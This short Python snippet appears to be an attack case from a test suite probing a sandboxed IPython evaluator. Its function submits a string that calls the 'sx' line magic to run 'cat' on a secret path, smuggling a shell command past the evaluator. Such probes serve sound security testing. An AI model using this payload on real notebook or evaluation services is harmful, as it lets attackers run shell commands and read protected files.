"""P1: a magic that runs a command, called as the transformer would."""


def attack(door):
    door.value(f"get_ipython().run_line_magic('sx', 'cat ' + {door.secret!r})")
